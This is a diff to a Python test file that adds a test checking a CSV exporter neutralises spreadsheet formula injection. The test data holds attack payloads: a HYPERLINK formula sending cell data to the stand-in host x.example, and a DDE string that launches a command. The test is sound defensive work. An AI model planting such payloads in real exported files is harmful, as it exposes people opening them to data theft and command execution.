@@ -59,10 +59,31 @@ def test_csv_round_trip_with_bom():
     assert raw[:3] == b"\xef\xbb\xbf"
     back = pd.read_csv(io.BytesIO(raw))
     assert list(back.columns) == list(df.columns)
-    assert back["site_ci5"].tolist() == df["site_ci5"].tolist()
+    # text that a spreadsheet would run as a formula comes back as text (OWASP CSV injection)
+    assert back["site_ci5"].tolist() == ["Stomach", "Лёгкое", "Süd vəzisi", "'=1+1"]
     assert back["value"].iloc[0] == 12.345678901               # full precision
     assert np.isnan(back["count"].iloc[2])
     assert export.table_to_csv(df, bom=False)[:8] == b"site_ci5"
+
+
+def test_csv_neutralises_formulas_in_text_cells_and_names_only():
+    """Issue 11: spreadsheet formulas in region names reached CSV downloads. Every text cell (and
+    column name) starting with = + - @ tab or CR gets a leading quote; numbers stay numbers."""
+    df = pd.DataFrame({
+        "region_name": ["=HYPERLINK(\"http://x.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                        "\tAbşeron", "=1", "Bakı", None],
+        "change": [-1.5, -2.0, 0.0, 1.0, -3.0, 4.0, 5.0, -6.0],
+        "code": pd.Categorical(["=A", "B", "C", "D", "E", "F", "G", "H"]),
+        "=1+1": range(8),
+    })
+    back = pd.read_csv(io.BytesIO(export.table_to_csv(df)), keep_default_na=False)
+    assert "'\r=1".encode() in export.table_to_csv(pd.DataFrame({"x": ["\r=1"]}))
+    assert list(back.columns) == ["region_name", "change", "code", "'=1+1"]
+    assert back["region_name"].tolist() == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "'+cmd|' /C calc'!A0", "'-2+3",
+                                            "'@SUM(A1)", "'\tAbşeron", "'=1", "Bakı", ""]
+    assert back["change"].tolist() == [-1.5, -2.0, 0.0, 1.0, -3.0, 4.0, 5.0, -6.0]     # numbers untouched
+    assert back["code"].tolist() == ["'=A", "B", "C", "D", "E", "F", "G", "H"]
+    assert df["region_name"].iloc[0].startswith("=")                                   # the input is not changed
 
 
 def test_excel_round_trip_and_metadata_sheet():
